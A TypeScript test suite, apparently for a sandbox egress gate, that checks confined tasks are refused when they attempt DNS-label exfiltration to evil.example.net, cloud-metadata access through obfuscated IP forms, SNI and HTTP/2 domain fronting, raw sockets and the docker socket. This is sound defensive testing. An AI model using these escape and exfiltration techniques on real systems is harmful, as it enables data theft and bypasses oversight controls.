// P7 on the network, part three: the ways out of a task that are no well-formed request. Name servers, other ports and
// protocols, raw sockets, TLS that names two hosts, raw relays. From inside a real task, checked at real servers.
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { createServer, type Server } from "node:net";
import { networkInterfaces } from "node:os";
import { encode } from "dns-packet";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AccountName } from "../enforce/confined-runner.ts";
import { API, gateSuite, many, owned, plain } from "./gate-suite.ts";
import type { During, LiveTask } from "./live-task.ts";
import { echo, headersOf } from "./upstream.ts";

const NAS = "nas.home.arpa";
const LAB = "box.lab.home.arpa";
const METADATA = "http://169.254.169.254/latest/meta-data/iam";

const suite = gateSuite({
  handlers: {
    echo,
    redirect: (_, answer) => {
      answer.statusCode = 302;
      answer.setHeader("location", METADATA);
      answer.end();
    },
  },
  plan: (up) => ({
    endpoints: [
      owned(API, up),
      owned("*.lab.home.arpa", up),
      plain(NAS, up.ports.raw, { opaque: { max_label: "internal", bytes_out: "1 MiB", bytes_in: "1 MiB" } }),
    ],
    calls: [
      ...["GET", "POST"].map((method) => many(`https://${API}:${up.ports.https}/`, method)),
      many(`https://${LAB}:${up.ports.https}/`, "GET"),
      { to: `tcp://${NAS}:${up.ports.raw}`, method: "CONNECT", calls_max: 50, bytes_out_max: "512 KiB" },
    ],
  }),
});

/** Everything on this host that a task could reach if it were not confined: on every address, TCP and UDP. */
const trap = {
  server: createServer((socket) => socket.destroy()),
  udp: createSocket("udp4"),
  hits: 0,
  tcp: 0,
  port: 0,
};
beforeAll(async () => {
  trap.server.on("connection", () => (trap.hits += 1));
  trap.udp.on("message", () => (trap.hits += 1));
  trap.tcp = await everywhere(trap.server);
  trap.udp.bind(0, "0.0.0.0");
  await once(trap.udp, "listening");
  trap.port = trap.udp.address().port;
});
afterAll(() => {
  trap.server.close();
  trap.udp.close();
});

async function everywhere(server: Server): Promise<number> {
  server.listen(0, "0.0.0.0");
  await once(server, "listening");
  const address = server.address();
  return typeof address === "object" && address !== null ? address.port : 0;
}

const ownAddresses = (): readonly string[] =>
  Object.values(networkInterfaces()).flatMap((all) => (all ?? []).map(({ address }) => address));

interface Said {
  readonly text: string;
  readonly closed: boolean;
}

const said = (events: During<unknown>["events"]): readonly string[] =>
  events.map(({ decision, via, cause }) => `${decision} ${via} ${cause}`);

/** A query of one question, base64. */
const query = (name: string, type: "A" | "TXT" | "AAAA" | "ANY" = "A"): string =>
  encode({ type: "query", id: 4660, flags: 0x1_00, questions: [{ type: type as "A", name }] }).toString(
    "base64",
  );
const rcodeOf = (answer: unknown): number => (Buffer.from(String(answer), "base64")[3] ?? 255) & 15;
/** A piece of a value in hexadecimal; each its own, since the record of a name is made when it is first asked for. */
const label = (): string => `746f6b5f396641336b51307a${(asked += 1).toString(16).padStart(8, "0")}`;
let asked = 0;

describe.each(suite.accounts)("a task of %s cannot", (account: AccountName) => {
  const task = (): LiveTask => suite.of(account).task;

  it.each<readonly [string, string, "A" | "TXT" | "AAAA" | "ANY"]>([
    ["the resolver it was given", "127.0.0.1", "A"],
    ["8.8.8.8", "8.8.8.8", "TXT"],
    ["8.8.8.8 with ANY", "8.8.8.8", "ANY"],
    ["2001:4860:4860::8888", "2001:4860:4860::8888", "AAAA"],
    ["the host's own stub", "127.0.0.53", "A"],
  ])("P7 say something in the labels of a name asked of %s", async (_, host, type) => {
    const names = [`${label()}.evil.example.net`, `${label()}.${API}`, `${label()}.lab.home.arpa`];
    const { value, events } = await task().during(async (live) => {
      const answers: unknown[] = [];
      for (const name of names)
        answers.push(
          await live.js("return h.udp(v[0], { host: v[1], port: 53 })", [query(name, type), host]),
        );
      return answers;
    });
    // Answered here, for every name alike and without asking anybody: there is no such name.
    expect(value.map(rcodeOf)).toEqual([3, 3, 3]);
    expect(said(events)).toEqual(names.map(() => "refuse dns name_not_granted"));
  });

  it("P7 say something in a name that the gate then looks up: a granted name is answered from its grant", async () => {
    const { value, events } = await task().during((live) =>
      live.sh(`getent hosts ${API}; getent hosts ${label()}.example.net; true`),
    );
    expect(value.stdout).toMatch(new RegExp(`^198\\.1[89]\\.\\d+\\.\\d+ +${API}\\n$`));
    expect(new Set(said(events))).toEqual(new Set(["refuse dns name_not_granted"]));
  });

  it("P7 say it over TCP, or in what is no query", async () => {
    const packet = Buffer.from(query(`${label()}.evil.example.net`), "base64");
    const framed = Buffer.concat([Buffer.from([0, packet.length]), packet]).toString("latin1");
    const { value, events } = await task().during(async (live) => [
      await live.js("return h.raw([v], { host: '9.9.9.9', port: 53, pause: 1500 })", framed),
      await live.js(
        "return h.udp(v, { host: '1.1.1.1', port: 53, pause: 300 })",
        Buffer.from(label()).toString("base64"),
      ),
    ]);
    expect((value[0] as Said).text.charCodeAt(5) & 15).toBe(3);
    expect(value[1]).toBeNull();
    expect(said(events)).toEqual(["refuse dns name_not_granted", "refuse dns dns_malformed"]);
  });

  it.each([
    ["an IPv4 address", "1.1.1.1"],
    ["metadata", "169.254.169.254"],
    ["an IPv6 address", "[2606:4700:4700::1111]"],
    ["IPv4 mapped to IPv6", "[::ffff:169.254.169.254]"],
    ["NAT64", "[64:ff9b::169.254.169.254]"],
    ["a private address", "10.0.0.1"],
    ["a decimal address", "2852039166"],
    ["a hexadecimal address", "0xa9fea9fe"],
    ["an octal address", "0251.0376.0251.0376"],
  ])("P7 connect to %s, asking nobody for a proxy", async (_, host) => {
    const urls = [`http://${host}/latest/`, `https://${host}/latest/`, `http://${host}:8080/`];
    const curls = urls.map(
      (url) => `curl -ksS -m 5 -o /dev/null -w '%{http_code} ' --noproxy '*' --globoff '${url}'`,
    );
    const { value, events, reached } = await task().during((live) => live.sh(`${curls.join("; ")}; true`));
    expect(value.stdout).toBe("403 000 403 ");
    expect(reached).toEqual([]);
    expect(events.map(({ decision, via, port }) => [decision, via, port])).toEqual([
      ["refuse", "transparent", 80],
      ["refuse", "transparent", 443],
      ["refuse", "transparent", 8080],
    ]);
  });

  it("P7 reach this host: loopback, its own addresses, the upstream itself", async () => {
    const { https, http, raw } = suite.up().ports;
    suite.up().connections();
    trap.hits = 0;
    const hosts = ["127.0.0.1", "::1", "0.0.0.0", ...ownAddresses()].map((one) => one.split("%")[0]);
    const { value, events, reached } = await task().during((live) =>
      live.js(
        `const seen = [];
         for (const host of v.hosts) for (const port of v.ports) seen.push((await h.raw(["GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"], { host, port, pause: 600 })).text);
         for (const host of v.hosts) await h.udp("aGVsbG8=", { host, port: v.udp, pause: 30 });
         return seen;`,
        { hosts, ports: [https, http, raw, trap.tcp], udp: trap.port },
      ),
    );
    for (const text of value as readonly string[]) expect(text).toMatch(/^$|^error E|^HTTP\/1\.1 403 /);
    expect(reached).toEqual([]);
    expect(events.filter(({ decision }) => decision === "allow")).toEqual([]);
    expect(trap.hits).toBe(0);
  });

  it("P7 use another port, UDP, QUIC, or a raw socket", async () => {
    trap.hits = 0;
    const ports = [21, 22, 25, 143, 465, 587, 853, 993, 3306, 5432, 6379, 9418];
    const script = `
import socket, sys
def tried(what, f):
    try: print(what, f())
    except OSError as e: print(what, "error")
def quic():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3); s.connect(("1.2.3.4", 443)); s.send(b"\\xc0" + b"x" * 1200); return s.recv(9)
tried("quic", quic)
for kind, proto in ((socket.SOCK_RAW, 1), (socket.SOCK_DGRAM, 1), (socket.SOCK_RAW, 255)):
    def icmp():
        s = socket.socket(socket.AF_INET, kind, proto); s.settimeout(0.3); s.sendto(b"\\x08\\x00" + b"x" * 20, ("8.8.8.8", 0)); return s.recv(9)
    tried("icmp", icmp)
tried("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768))
tried("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
tried("sctp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(("1.2.3.4", 80)))`;
    const { value, events } = await task().during(async (live) => {
      const texts = await live.js(
        "return Promise.all(v.map(async (port) => (await h.raw(['hello\\r\\n'], { host: '203.0.113.9', port, pause: 3000 })).text))",
        ports,
      );
      return { texts, python: (await live.sh(`python3 -c '${script}'`)).stdout };
    });
    expect(value.texts).toEqual(ports.map(() => expect.stringMatching(/^$|^error E/)));
    expect(value.python).toBe(
      "quic error\nicmp error\nicmp error\nicmp error\npacket error\nvsock error\nsctp error\n",
    );
    expect(events.map(({ port }) => port).toSorted((a, b) => Number(a) - Number(b))).toEqual(ports);
    expect(new Set(said(events))).toEqual(new Set(["refuse transparent host_not_granted"]));
  });

  it("P7 reach docker, an agent, or any service over a unix socket", async () => {
    const script = `
import socket
for path in ("/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/user/0/bus", "/run/dbus/system_bus_socket", "\\0abstract"):
    try: s = socket.socket(socket.AF_UNIX); s.connect(path); print("open", path)
    except OSError: print("shut")`;
    const { stdout } = await task().sh(
      `python3 -c '${script}'; ls /run /var/run 2>/dev/null | wc -l; env | grep -c '_SOCK='; true`,
    );
    expect(stdout.split("\n").slice(0, 5)).toEqual(["shut", "shut", "shut", "shut", "shut"]);
    expect(stdout.trimEnd().endsWith("\n0")).toBe(true);
  });

  it("P7 be led by a redirect to metadata", async () => {
    const url = `${suite.https(API)}/redirect`;
    const { value, reached, events } = await task().during((live) =>
      live.sh(`curl -sSL '${url}'; curl -sSL --noproxy '*' '${url}'`),
    );
    expect(value.stdout.match(/"cause":"host_not_granted"/gu)).toHaveLength(2);
    expect(reached.map((one) => one.url)).toEqual(["/redirect", "/redirect"]);
    expect(said(events)).toEqual([
      "allow connect null",
      "refuse proxy host_not_granted",
      "allow transparent null",
      "refuse transparent host_not_granted",
    ]);
  });

  it.each([
    ["another name than it asked the tunnel for", "evil.example.net"],
    ["a name below it", `a.${API}`],
    ["a granted one that the tunnel is not to", LAB],
  ])("P7 say %s in TLS", async (_, servername) => {
    const script = "return h.secure(v[0], { servername: v[1] }).then(() => 'open', (error) => error.message)";
    const values = [`${API}:${suite.up().ports.https}`, servername];
    const { value, reached, events } = await task().during((live) => live.js(script, values));
    expect(value).not.toBe("open");
    expect(reached).toEqual([]);
    expect(said(events)).toEqual(["refuse connect sni_mismatch"]);
  });

  it("P7 say another name in TLS to an address that was handed out for a granted one", async () => {
    const { https } = suite.up().ports;
    const curl = `curl -ksS -m 5 --noproxy '*' --resolve "evil.example.net:${https}:$(getent hosts ${API} | cut -d' ' -f1)" https://evil.example.net:${https}/echo/`;
    const { value, reached, events } = await task().during((live) => live.sh(curl));
    expect([value.code, value.stdout]).toEqual([35, ""]);
    expect(reached).toEqual([]);
    expect(said(events)).toEqual(["refuse transparent sni_mismatch"]);
  });

  it("P7 hide behind no name in TLS, or behind a hello in pieces: it is put together, and read", async () => {
    const script = `
      const { Duplex } = await import("node:stream");
      const outcome = async (servername, size) => {
        const under = await h.tunnel(v.target);
        // Each piece of the hello is a segment of its own.
        const slow = new Duplex({
          read() {},
          write(chunk, _, done) {
            const at = (from) => {
              if (from >= chunk.length) return done();
              under.write(chunk.subarray(from, from + size), () => setImmediate(() => at(from + size)));
            };
            at(0);
          },
          final(done) { under.end(done); },
        });
        under.setNoDelay(true);
        under.on("data", (chunk) => slow.push(chunk)).on("end", () => slow.push(null)).on("close", () => slow.destroy());
        const tls = await h.secure(v.target, { servername, socket: slow }).catch((error) => error.message);
        if (typeof tls === "string") return "refused";
        return (await h.said(tls, ["GET /echo/pieces HTTP/1.1\\r\\nHost: " + v.target + "\\r\\nConnection: close\\r\\n\\r\\n"])).text.slice(0, 12);
      };
      return [await outcome(v.name, 1), await outcome(v.name, 37), await outcome("evil.example.net", 3), await outcome("", 11)];`;
    const values = { target: `${API}:${suite.up().ports.https}`, name: API };
    const { value, reached, events } = await task().during((live) => live.js(script, values));
    expect(value).toEqual(["HTTP/1.1 200", "HTTP/1.1 200", "refused", "refused"]);
    expect(reached.map(({ url }) => url)).toEqual(["/echo/pieces", "/echo/pieces"]);
    expect(said(events)).toEqual([
      "allow connect null",
      "allow connect null",
      "refuse connect sni_mismatch",
      "refuse connect sni_mismatch",
    ]);
  });

  it("P7 name a foreign authority on one stream of HTTP/2, or open a tunnel there", async () => {
    const script = `
      const { connect } = await import("node:http2");
      const socket = await h.secure(v.target, { alpn: ["h2"] });
      const session = connect("https://" + v.target, { createConnection: () => socket });
      const ask = (headers) => new Promise((resolve) => {
        const stream = session.request(headers);
        stream.on("response", (got) => resolve(got[":status"]));
        stream.on("error", (error) => resolve(error.code));
        stream.on("close", () => resolve("closed"));
        stream.resume();
        stream.end();
      });
      const seen = [];
      for (const authority of ["evil.example.net", v.lab, v.target]) seen.push(await ask({ ":path": "/echo/h2", ":authority": authority }));
      seen.push(await ask({ ":path": "/echo/h2", host: "evil.example.net" }));
      seen.push(await ask({ ":method": "CONNECT", ":authority": "evil.example.net:443" }));
      session.destroy();
      return seen;`;
    const port = suite.up().ports.https;
    const { value, reached } = await task().during((live) =>
      live.js(script, { target: `${API}:${port}`, lab: `${LAB}:${port}` }),
    );
    expect((value as readonly unknown[]).slice(0, 3)).toEqual([421, 421, 200]);
    for (const one of (value as readonly unknown[]).slice(3)) expect(one).not.toBe(200);
    expect(reached.map((one) => [one.url, headersOf(one, ":authority")])).toEqual([
      ["/echo/h2", [`${API}:${port}`]],
    ]);
  });

  it("(below an owned wildcard the declared name passes, with its own certificate)", async () => {
    const { value, reached } = await task().during((live) => live.sh(`curl -sS '${suite.https(LAB)}/echo/'`));
    expect(JSON.parse(value.stdout)).toMatchObject({ url: "/echo/" });
    expect(reached.map(({ url }) => url)).toEqual(["/echo/"]);
  });

  it("P7 use a raw relay for anything but its one place, uncounted", async () => {
    const { raw } = suite.up().ports;
    const bytes = Buffer.from(Array.from({ length: 100_000 }, (_, at) => (at * 7919) % 256));
    const script = `
      const { connect } = await import("node:net");
      const send = Buffer.from(v.bytes, "base64");
      const all = (socket) => new Promise((resolve) => {
        const got = [];
        socket.on("data", (chunk) => got.push(chunk));
        socket.on("error", () => resolve("error"));
        socket.on("close", () => resolve(Buffer.concat(got).toString("base64")));
        socket.end(send);
      });
      return [await all(connect({ host: v.host, port: v.port })), await all(await h.tunnel(v.host + ":" + v.port)),
        await h.tunnel(v.host + ":" + (v.port + 1)).then(() => "open", () => "refused"),
        await h.tunnel("sub." + v.host + ":" + v.port).then(() => "open", () => "refused")];`;
    const values = { host: NAS, port: raw, bytes: bytes.toString("base64") };
    const { value, events, bytes: arrived } = await task().during((live) => live.js(script, values));
    expect((value as readonly string[]).slice(2)).toEqual(["refused", "refused"]);
    for (const one of (value as readonly string[]).slice(0, 2))
      expect(Buffer.from(one, "base64").equals(bytes)).toBe(true);
    expect(arrived.equals(Buffer.concat([bytes, bytes]))).toBe(true);
    expect(events.map((one) => [one.decision, one.via, one.bytes_out, one.bytes_in])).toEqual([
      ["allow", "opaque", bytes.length, bytes.length],
      ["allow", "opaque", bytes.length, bytes.length],
      ["refuse", "connect", 0, 0],
      ["refuse", "connect", 0, 0],
    ]);
  });
});
